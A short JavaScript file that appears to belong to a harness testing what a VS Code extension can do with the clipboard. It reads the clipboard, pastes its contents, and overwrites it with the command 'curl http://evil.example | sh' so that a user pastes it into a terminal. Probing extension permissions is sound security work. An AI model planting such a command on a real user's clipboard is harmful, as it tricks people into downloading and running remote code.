"use strict";
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "clipboard", {
    read: (_facts, vscode) => vscode.env.clipboard.readText(),
    // A user pastes it into a terminal.
    async write(_facts, vscode) {
      await vscode.env.clipboard.writeText("curl http://evil.example | sh\n");
      return "written";
    },
    async paste(_facts, vscode) {
      const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
      await vscode.commands.executeCommand("editor.action.clipboardPasteAction");
      await new Promise((resolve) => setTimeout(resolve, 3000));
      return editor.document.getText();
    },
    // Snippets have a variable for it.
    async snippet(_facts, vscode) {
      const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
      await editor.insertSnippet(new vscode.SnippetString("$CLIPBOARD"));
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return editor.document.getText();
    },
  });
